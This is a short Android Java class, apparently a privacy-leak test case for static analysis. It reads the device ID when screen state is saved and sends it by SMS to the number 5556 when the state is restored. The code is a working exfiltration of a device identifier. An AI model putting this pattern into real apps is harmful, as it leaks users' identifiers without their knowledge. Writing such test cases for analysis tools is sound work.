package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** Saved with the state of the screen, sent when it is restored. */
public class Saved extends Case {
    @Override protected void onSaveInstanceState(Bundle b) { super.onSaveInstanceState(b); b.putString("k", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()); }
    @Override protected void onRestoreInstanceState(Bundle b) { SmsManager.getDefault().sendTextMessage("5556", null, b.getString("k"), null, null); }
}
